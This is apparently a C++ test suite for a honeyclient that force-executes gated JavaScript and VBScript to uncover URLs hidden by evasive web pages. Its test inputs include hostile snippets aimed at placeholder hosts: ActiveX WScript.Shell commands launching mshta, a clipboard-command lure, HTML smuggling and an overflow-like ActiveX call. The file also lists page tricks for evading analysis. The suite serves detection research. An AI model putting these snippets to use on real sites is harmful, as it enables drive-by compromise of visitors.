// The forced run: what it finds that a plain visit does not, and that it can't be noticed.
#include <algorithm>

#include "honeyclient/low/evasive_pages.h"
#include "honeyclient/low/visit_test.h"

namespace shikake::honeyclient::low {
namespace {

VisitOptions offline(const std::string& html, bool forced) {
  VisitOptions options = local_visit("http://page.example/");
  options.content = html;
  options.offline = true;
  options.forced = forced;
  return options;
}

bool leads_to(const intel::VisitRecord& visit, const std::string& url) {
  return std::ranges::any_of(visit.nodes, [&](const intel::VisitNode& node) { return node.url == url; });
}

struct Row {
  const char* name;
  std::string script;  // leads to http://hidden.example/ behind some gate
  const char* decided_by = "";
  std::string markup = {};
};
class Gates : public ::testing::TestWithParam<Row> {};

// Every edge to the hidden page is the forced run's, for this reason.
void expect_forced(const intel::VisitRecord& visit, std::string_view decided_by) {
  for (const intel::VisitEdge& edge : visit.edges) {
    const intel::VisitNode& to = visit.nodes[edge.to];
    if (to.url != "http://hidden.example/") continue;
    EXPECT_TRUE(edge.forced);
    EXPECT_FALSE(to.fetched);
    EXPECT_EQ(to.why_not, "found by forced execution, not visited");
    EXPECT_NE(edge.decided_by.find(decided_by), std::string::npos) << edge.decided_by;
  }
}

TEST_P(Gates, ArePassedByForceOnly) {
  std::string page = GetParam().markup + "<p>\n<script>\n" + GetParam().script + "\n</script>";
  EXPECT_FALSE(leads_to(visit_or_fail(offline(page, false)), "http://hidden.example/"));
  intel::VisitRecord visit = visit_or_fail(offline(page, true));
  EXPECT_TRUE(leads_to(visit, "http://hidden.example/"));
  EXPECT_TRUE(visit.complete) << ::testing::PrintToString(visit.limits_hit);
  EXPECT_EQ(visit.verdict, intel::VisitVerdict::benign);
  expect_forced(visit, GetParam().decided_by);
}

const std::string go = "location='http://hidden.example/';";
INSTANTIATE_TEST_SUITE_P(
    Rows, Gates,
    ::testing::Values(
        Row{"branch", "if(navigator.userAgent.indexOf('MSIE 6')>0){" + go + "}",
            "navigator.userAgent: navigator.userAgent.indexOf('MSIE 6')>0 is true, line 3"},
        Row{"guard", "(function(){if(!/ja/.test(navigator.language))return;" + go + "})()",
            "navigator.language: !/ja/.test(navigator.language) is false"},
        Row{"behind_a_name", "var ua=navigator.userAgent,ie=ua.indexOf('MSIE')>0;\nif(ie){" + go + "}",
            "navigator.userAgent: ie is true, line 4"},
        Row{"choice", "var u=screen.width==1?'http://hidden.example/':'http://page.example/#x';location=u",
            "screen"},
        Row{"and", "function f(){" + go + "} document.cookie.length>1e6&&f()", "document.cookie"},
        Row{"case", "switch(navigator.platform){case 'Amiga':" + go + "break;case 'x':}",
            "navigator.platform"},
        Row{"nested",
            "if(document.referrer=='a'){if(screen.height==1){if(navigator.vendor=='b'){" + go + "}}}",
            "navigator.vendor"},
        Row{"never_called", "function f(x){" + go + "}", "a function that nothing called, line 3"},
        Row{"asynchronous_function",
            "async function f(){await 1;}\nasync function g(){if(await "
            "navigator.x){" +
                go + "}} g()"},
        Row{"generator_never_asked", "function* f(){yield 1;" + go + "}"},
        Row{"inline_module", "", "",
            "<script type=module>const a=[];if(navigator.languages.length>9){" + go + "}export{a}</script>"},
        Row{"never_imported", "function later(){import('http://hidden.example/')}"},
        Row{"method_never_called", "class A{m(){" + go + "}}", "never reached"},
        Row{"dead_code",
            "(function(){var a=['/','/hidden.example/'];return;var u='http:'+a.join('');location=u})()",
            "never reached"},
        Row{"failing_before",
            "function f(o){var h=o.no.such.thing();var u='http://hidden.example/';location=u}"},
        Row{"late", "var n=0;setInterval(function(){if(++n==5000){" + go + "}},1000)", "n"},
        Row{"evaluated", "if(navigator.webdriver)eval(\"if(top!=self){\"+\"" + go + "}\")"},
        Row{"function_constructor", "var f=new Function('a',\"if(a){" + go + "}\");f(0)"},
        Row{"handler", "", "", "<p onmouseover=\"if(event.ctrlKey){" + go + "}\">x</p>"},
        Row{"mouse", "document.oncontextmenu=function(e){if(e.clientX>100){" + go + "}}", "the mouse"},
        Row{"catch_of_nothing", "try{window.x=1}catch(e){" + go + "}"},
        Row{"component",
            "try{var o=new ActiveXObject('Specimen.Player');if(o.version=='7')" + go + "}catch(e){}"}),
    [](const auto& row) { return row.param.name; });

const std::string only_forced =
    "<script>if(screen.width==1)new Image().src='http://forced.example/'</script>";

// Each script reports what it sees of itself.
struct Unnoticed {
  const char* name;
  const char* script;
};
class Checks : public ::testing::TestWithParam<Unnoticed> {};
TEST_P(Checks, SeeNoDifference) {
  // The second is there to show that the forced run did run.
  std::string page = std::string("<script>function report(x){new Image().src='http://said.example/'+x}\n") +
                     GetParam().script + "</script>" + only_forced;
  intel::VisitRecord plain = visit_or_fail(offline(page, false));
  intel::VisitRecord forced = visit_or_fail(offline(page, true));
  ASSERT_EQ(plain.edges.size(), 1u);
  EXPECT_TRUE(leads_to(forced, "http://forced.example/"));
  // What the forced run said is what the plain one said: else it would be one edge more.
  EXPECT_EQ(forced.edges.size(), 2u) << forced.nodes.back().url;
}
INSTANTIATE_TEST_SUITE_P(
    Rows, Checks,
    ::testing::Values(
        Unnoticed{"own_source", "function f(a){if(a)return 1;b()} report(f.toString().length)"},
        Unnoticed{"text_of_a_callee",
                  "(function(){var k=arguments.callee.toString(),h=0;for(var i=0;i<k.length;i++)"
                  "h=(h*31+k.charCodeAt(i))|0;report(h)})()"},
        Unnoticed{"text_added", "var f=function(x){x&&x();for(;;)break};report(encodeURIComponent(''+f))"},
        Unnoticed{"arrow_source", "var f=x=>x?y():z();report(encodeURIComponent(f+''))"},
        Unnoticed{"class_source", "class A{m(){if(q)r()}} report(encodeURIComponent(A+''))"},
        Unnoticed{"evaluated_source",
                  "report(encodeURIComponent(eval('(function(){if(a)b()})').toString()))"},
        Unnoticed{"constructed_source", "report(encodeURIComponent(new Function('a','if(a)b()')))"},
        Unnoticed{"native_source",
                  "report(encodeURIComponent(Function+''+alert+Function.prototype.toString))"},
        Unnoticed{"constructor",
                  "report((function(){}).constructor===Function&&Function.prototype."
                  "constructor===Function&&(function(){}) instanceof Function)"},
        Unnoticed{"names_of_the_window",
                  "var n=0;for(var k in window)n++;report(n+'_'+Object.keys(window).length)"},
        Unnoticed{"value_of_eval", "report(eval('var a=1;if(a){7}')+'_'+eval('3;function f(){}'))"},
        Unnoticed{"labels",
                  "var s='';a:for(var i=0;i<3;i++){for(;;){s+=i;continue a}}do{s+='d';break}while(1);"
                  "b:{s+='b';break b}report(s)"},
        Unnoticed{"names_of_functions", "function f(){return f.name+arguments.length} report(f(1,2))"},
        Unnoticed{"names_of_functions_without_one",
                  "var a=function(){},o={b:()=>1,'c d':function(){},get e(){return 1}},[f=class{}]=[];let "
                  "g=async()=>1;"
                  "class K{h=()=>1;static i=function(){}} function j(k=()=>1){return k}"
                  "report(encodeURIComponent([a,o.b,o['c d'],f,g,new K().h,K.i,j(),(function(){}),(()=>1)]"
                  ".map(x=>x.name).join('|')))"},
        Unnoticed{"texts_of_functions_without_a_name",
                  "var a=function(x){if(x)y()},o={b:x=>x?z():1};report(encodeURIComponent(a+''+o.b))"},
        Unnoticed{"stack_of_an_error",
                  "var f=function(){try{null.x}catch(e){return e.stack.split('\\n').length}};report(f())"}),
    [](const auto& row) { return row.param.name; });

// VBScript's branches and procedures, as JScript's.
class VbGates : public ::testing::TestWithParam<Row> {};
TEST_P(VbGates, ArePassedByForceOnly) {
  std::string page = "<script language=VBScript>\n" + GetParam().script + "\n</script>";
  for (bool force : {false, true}) {
    VisitOptions options = offline(page, force);
    options.persona = "ie8-winxp";
    intel::VisitRecord visit = visit_or_fail(options);
    EXPECT_EQ(leads_to(visit, "http://hidden.example/"), force);
    expect_forced(visit, GetParam().decided_by);
  }
}
const std::string vb_go = "location.href = \"http://hidden.example/\"";
INSTANTIATE_TEST_SUITE_P(
    Rows, VbGates,
    ::testing::Values(
        Row{"branch", "If InStr(navigator.userAgent, \"MSIE 6\") > 0 Then\n" + vb_go + "\nEnd If",
            "VBScript, line 2: If InStr(navigator.userAgent"},
        Row{"guard", "Sub main\nIf navigator.cpuClass <> \"x\" Then Exit Sub\n" + vb_go + "\nEnd Sub\nmain"},
        Row{"else_if", "If True Then\nx = 1\nElseIf y = 2 Then\n" + vb_go + "\nElse\nz = 1\nEnd If"},
        Row{"selection",
            "Select Case ScriptEngineMinorVersion\nCase 99: " + vb_go + "\nCase Else: x = 1\nEnd Select",
            "Select Case"},
        Row{"loop_that_never_runs", "Do While False\n" + vb_go + "\nLoop"},
        Row{"never_called", "Sub hidden(a, b)\n" + vb_go + "\nEnd Sub", "line 2: Sub hidden"},
        Row{"failing_before", "Function f(o)\nh = o.No.Such\n" + vb_go + "\nEnd Function"},
        Row{"nested", "If a = 1 Then\nIf b = 2 Then\nSelect Case c\nCase 3\n" + vb_go +
                          "\nEnd Select\nEnd If\nEnd If"}),
    [](const auto& row) { return row.param.name; });

TEST(ForcedRun, KeepsThePositionsOfThePlainOne) {
  std::string page =
      "<script>\nvar a = 1; if (a) { var b = 2; location = 'http://natural.example/' }\n"
      "x = a ? document.write('<iframe src=http://frame.example/></iframe>') : 0;</script>";
  intel::VisitRecord plain = visit_or_fail(offline(page, false));
  intel::VisitRecord forced = visit_or_fail(offline(page, true));
  ASSERT_EQ(plain.edges.size(), forced.edges.size());
  for (size_t i = 0; i < plain.edges.size(); ++i) {
    ASSERT_TRUE(plain.edges[i].script && forced.edges[i].script);
    EXPECT_EQ(plain.edges[i].script->position.column, forced.edges[i].script->position.column);
    EXPECT_FALSE(forced.edges[i].forced);
    EXPECT_NE(forced.edges[i].decided_by, "");
  }
}

TEST(ForcedRun, EndsWhateverThePageDoes) {
  for (const char* script : {"for(;;);", "while(1){debugger}", "function f(){f();f()} if(q)f();f()",
                             "setInterval(function(){if(a)b();},0)", "(function g(){setTimeout(g,0)})()",
                             "var t=Date.now();while(Date.now()-t<5000);location='http://late.example/'",
                             "for(var i=0;i<1e9;i++){try{x()}catch(e){continue}finally{if(i<0)break}}"}) {
    VisitOptions options = offline(
        "<iframe src=http://seen.example/></iframe>" + only_forced + "<script>" + script + "</script>", true);
    options.max_script_time = std::chrono::milliseconds(300);
    intel::VisitRecord visit = visit_or_fail(options);
    EXPECT_TRUE(leads_to(visit, "http://seen.example/")) << script;
    EXPECT_TRUE(leads_to(visit, "http://forced.example/")) << script;
  }
}

TEST(ForcedRun, AsksForNothing) {
  Sites sites({{"/", "<script src=/s.js></script>"},
               {"/s.js",
                "HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\n\r\n"
                "if(navigator.language=='xx'){location='/hidden'} location='/next'"},
               {"/next", "<script>if(screen.width<9)location='{b}/further'</script>"}});
  VisitOptions options = local_visit(sites.url());
  options.forced = true;
  intel::VisitRecord visit = visit_or_fail(options);
  EXPECT_EQ(sites.requests().size(), 3u);
  EXPECT_TRUE(leads_to(visit, sites.url("/hidden")));
  EXPECT_TRUE(leads_to(visit, sites.filled("{b}/further")));
}

TEST(ForcedRun, MakesSuspiciousAtMost) {
  VisitOptions options = offline(
      "<script>if(navigator.userAgent=='x'){var o=new ActiveXObject('Specimen.Player');"
      "o.Open(new Array(5000).join('A'))}</script>",
      true);
  intel::VisitRecord visit = visit_or_fail(options);
  EXPECT_EQ(visit.verdict, intel::VisitVerdict::suspicious);
  ASSERT_EQ(visit.reasons.size(), 1u);
  EXPECT_NE(visit.reasons[0].find("by force"), std::string::npos) << visit.reasons[0];
  EXPECT_FALSE(visit.nodes[0].role);
}

TEST(ForcedRun, MakesACommandASuspicion) {
  VisitOptions options = offline(
      "<script>if(navigator.language=='xx'){var s=new ActiveXObject('WScript.Shell');"
      "s.Run('mshta http://hidden.example/a.hta')}</script>",
      true);
  options.persona = "ie8-winxp";
  intel::VisitRecord visit = visit_or_fail(options);
  EXPECT_EQ(visit.verdict, intel::VisitVerdict::suspicious);
  EXPECT_TRUE(leads_to(visit, "http://hidden.example/a.hta"));
}

TEST(ForcedRun, MarksTheSourcesThatItAloneEvaluated) {
  intel::VisitRecord visit = visit_or_fail(
      offline("<script>eval('var own=1');if(screen.width==1)eval('var hidden=2')</script>", true));
  ASSERT_EQ(visit.evaluated.size(), 2u);
  for (const intel::VisitSource& source : visit.evaluated)
    EXPECT_EQ(source.forced, source.position.sha256 == base::sha256("var hidden=2"));
}

TEST(ForcedRun, TellsHowThePagesOwnChecksWent) {
  intel::VisitRecord visit = visit_or_fail(offline(
      "<script>\nvar ua=navigator.userAgent;\nif(/MSIE 6/.test(ua)){a()}\nif(navigator.javaEnabled())b();"
      "else window.c=1;\nswitch(navigator.platform){case 'Amiga':d();break;case 'Win32':window.e=1}\n"
      "for(var i=0;i<3;i++)if(i>1)window.f='x';</script>",
      true));
  std::vector<std::string> checks;
  for (const intel::VisitEvent& event : visit.events)
    if (event.kind == "check") checks.push_back(event.detail);
  EXPECT_EQ(checks, (std::vector<std::string>{
                        "navigator.userAgent: /MSIE 6/.test(ua) is false, line 3",
                        "navigator.javaEnabled: navigator.javaEnabled() is false, line 4",
                        "navigator.platform: navigator.platform has the value of case 2, line 5"}));
}

// Whatever would convict a page convicts it by force, too; and what the visit took apart is not taken apart
// again.
TEST(ForcedRun, TellsOfEveryKindOfDeed) {
  const struct {
    const char *name, *persona, *deed, *reason;
  } rows[] = {
      {"clipboard", "chrome-win10",
       "var t=document.createElement('textarea');t.value='mshta http://range.example/x.hta';"
       "document.documentElement.appendChild(t);t.select();document.execCommand('copy');t.remove()",
       "put a command into the clipboard"},
      {"command", "ie6-winxp", "new ActiveXObject('WScript.Shell').Run('specimen.exe')",
       "has a command run: specimen.exe"},
      {"file", "chrome-win10",
       "var a=document.createElement('a');a.download='x.js';a.href='data:,WScript.Echo(1)';"
       "document.documentElement.appendChild(a);a.click()",
       "HTML smuggling"},
  };
  for (const auto& row : rows) {
    SCOPED_TRACE(row.name);
    VisitOptions options =
        offline(std::string("<p>x</p><script>if(screen.width==1){") + row.deed + "}</script>", true);
    options.persona = row.persona;
    const intel::VisitRecord visit = visit_or_fail(options);
    EXPECT_EQ(visit.verdict, intel::VisitVerdict::suspicious);
    EXPECT_TRUE(std::ranges::any_of(visit.reasons, [&](const std::string& reason) {
      return reason.find(row.reason) != std::string::npos && reason.find("by force") != std::string::npos;
    })) << ::testing::PrintToString(visit.reasons);
  }
}

// How many of the URLs that a plain visit does not find.
struct Share {
  size_t hidden = 0, found = 0;
  std::string missed;
};
Share share_of(const std::vector<EvasivePage>& pages) {
  Share share;
  for (const EvasivePage& page : pages) {
    if (leads_to(visit_or_fail(offline(page.html, false)), page.hidden)) continue;
    ++share.hidden;
    if (leads_to(visit_or_fail(offline(page.html, true)), page.hidden))
      ++share.found;
    else
      share.missed += page.name + "\n";
  }
  return share;
}

TEST(ForcedRun, FindsWhatTheEvasiveSetHides) {
  Share share = share_of(evasive_pages(5, 294));
  EXPECT_GE(share.hidden, 200u);
  EXPECT_GE(share.found * 100, share.hidden * 90) << share.found << " of " << share.hidden << "; missed:\n"
                                                  << share.missed;
}

TEST(ForcedRun, FindsItThroughWhatToolsMakeOfScripts) {
  Share share = share_of(transformed_pages(9, 150));
  EXPECT_GE(share.hidden, 120u);
  EXPECT_GE(share.found * 100, share.hidden * 85) << share.found << " of " << share.hidden << "; missed:\n"
                                                  << share.missed;
}

// Kinds that nobody had in mind when it was written.
TEST(ForcedRun, FindsMostOfWhatOtherHabitsHide) {
  Share share = share_of(held_out_pages(7, 64));
  EXPECT_GE(share.hidden, 50u);
  EXPECT_GE(share.found * 100, share.hidden * 60) << share.found << " of " << share.hidden << "; missed:\n"
                                                  << share.missed;
}

}  // namespace
}  // namespace shikake::honeyclient::low
